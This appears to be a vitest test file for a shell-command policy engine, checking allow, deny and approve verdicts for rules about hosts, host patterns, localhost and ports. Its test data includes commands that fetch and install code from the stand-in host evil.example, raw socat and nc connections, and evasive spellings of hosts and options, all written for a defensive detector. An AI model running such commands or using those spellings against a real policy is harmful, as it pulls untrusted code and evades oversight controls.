/** A rule about hosts is asked about whoever a command's words name, and covers nobody whom no word names. */
import { describe, expect, it } from 'vitest';
import { openOwnPolicy, useOwnPolicy } from '../support/own-policy.ts';

const policy = useOwnPolicy(`
version: 1
description: One host may be contacted, and another not.
rules:
  - id: known
    allow: { effects: [read, write, network, execute-code, package], hosts: [good.example] }
    reason: It is known.
  - id: rival
    deny: { hosts: [evil.example] }
    reason: It is not ours.
`);

describe('a rule about hosts', () => {
  it.each([
    'git clone https://evil.example/x.git',
    'git clone git@evil.example:x/y.git z',
    'git clone evil.example:x/y.git',
    'git -C /srv/x clone ssh://git@evil.example/x',
    'git fetch https://evil.example/x.git main',
    'git push https://evil.example:8443/x.git main',
    'git pull https://user:word@evil.example/x',
    'git ls-remote "https://evil.example/x.git"',
    'git submodule add https://evil.example/x.git lib/x',
    'pip install https://evil.example/x.whl',
    'pip install --index-url=https://evil.example/simple x',
    'pip install git+https://evil.example/x',
    'npm install https://good.example/a.tgz https://evil.example/x.tgz',
    'npm ci --registry=https://evil.example',
    'pip install -ihttps://evil.example x',
    'npm install 1https://evil.example/x.tgz',
    'cargo install --git https://EVIL.example./x',
    'uv pip install https://evil.example/x.whl',
    'docker pull evil.example/x',
    'docker run --rm evil.example:5000/x:1 ls',
    'docker pull EVIL.example/x@sha256:00',
    'go get evil.example/x/y@latest',
    'go install evil.example/cmd/x@v1',
    'socat - TCP:evil.example:80',
    'socat TCP4:evil.example:80,retry=3 -',
  ])('sees %s', async (command) => {
    expect(await policy.verdictOf(command)).toBe('deny');
  });

  it.each([
    'git pull',
    'git push origin main',
    'git clone "$url"',
    'git clone "https://$host/x"',
    'git clone https://"$host".good.example/x',
    'git clone other.example:x',
    'git clone ext::sh x',
    'npm install x',
    'docker pull good.example/x',
    'go get good.example/x',
    'pip install x',
    'pip install "git+https://$host/x"',
  ])('covers no one but whom it names: %s', async (command) => {
    expect(await policy.verdictOf(command)).not.toBe('allow');
  });

  it.each([
    'git clone https://good.example/x',
    'git clone "https://good.example/$x"',
    'git clone git@good.example:x/y.git',
    'git push ssh://git@good.example:2222/x main',
    'pip install git+https://good.example/x',
    'curl https://good.example/',
    'ls',
  ])('covers whom it names: %s', async (command) => {
    expect(await policy.verdictOf(command)).toBe('allow');
  });
});

describe('a pattern of hosts', () => {
  const patterns = useOwnPolicy(`
version: 1
description: Some hosts.
rules:
  - id: ours
    allow: { effects: [read, network], tools: [curl], hosts: ["db-*", "*.example.com", "*-cache.*", localhost] }
    reason: They are ours.
  - id: never
    deny: { hosts: ["evil.example.", "10.0.0.*.evil.example"] }
`);

  it.each([
    ['curl http://db-1/', 'allow'],
    ['curl http://db-1.evil.net/', 'approve'],
    ['curl http://a.b.example.com/', 'allow'],
    ['curl http://x-cache.internal/', 'allow'],
    ['curl http://x-cache.evil.net/', 'approve'],
    ['curl http://EVIL.example./', 'deny'],
  ])('%s: %s', async (command, wanted) => {
    expect(await patterns.verdictOf(command)).toBe(wanted);
  });

  it('that refuses localhost means its addresses too', async () => {
    const local = await openOwnPolicy(
      'version: 1\nrules:\n  - { id: open, allow: { effects: [read, network], tools: [curl], hosts: ["*"] } }\n  - { id: no, deny: { hosts: [localhost] } }',
    );
    try {
      expect(await local.verdictOf('curl http://127.0.0.1/')).toBe('deny');
      expect(await local.verdictOf('curl http://localhost:8080/')).toBe('deny');
      expect(await local.verdictOf('curl http://10.0.0.1/')).toBe('allow');
    } finally {
      await local.close();
    }
  });
});

describe('a name that may be a host', () => {
  it('is not taken for all whom unseen words may name', async () => {
    const own = await openOwnPolicy(
      'version: 1\nrules:\n  - { id: open, allow: { effects: [read, write, network, execute-code, privilege], tools: [docker, xargs, cat], unseen_arguments: true } }\n  - { id: no, deny: { hosts: [evil.example] } }',
    );
    try {
      expect(await own.verdictOf('docker pull a.example/x')).toBe('allow');
      expect(await own.verdictOf('cat f | xargs docker pull a.example/x')).not.toBe('allow');
      expect(await own.verdictOf('cat f | xargs docker pull x')).not.toBe('allow');
    } finally {
      await own.close();
    }
  });
});

describe('a rule about ports', () => {
  const ports = useOwnPolicy(`
version: 1
description: One port may be used, and another not.
rules:
  - { id: web, allow: { effects: [read, network], tools: [curl, ping], hosts: ["*"], ports: ["443", "8000-8099"] } }
  - { id: mail, deny: { hosts: ["*"], ports: ["25"] } }
`);

  it.each([
    ['curl https://x.example/', 'allow'],
    ['curl https://x.example:8080/', 'allow'],
    ['curl "https://x.example/$path"', 'allow'],
    ['curl http://x.example/', 'approve'],
    ['curl -L https://x.example/', 'approve'],
    ['curl https://x.example:25/', 'deny'],
    ['nc x.example 25', 'deny'],
    ['nc -z x.example 20-30', 'deny'],
    ['ssh -p 25 x.example uptime', 'deny'],
    ['ssh x.example uptime', 'approve'],
    ['nc x.example "$port"', 'deny'],
    ['nc x.example 80', 'approve'],
    ['curl https://x.example:99999/', 'approve'],
  ])('%s: %s', async (command, wanted) => {
    expect(await ports.verdictOf(command)).toBe(wanted);
  });
});
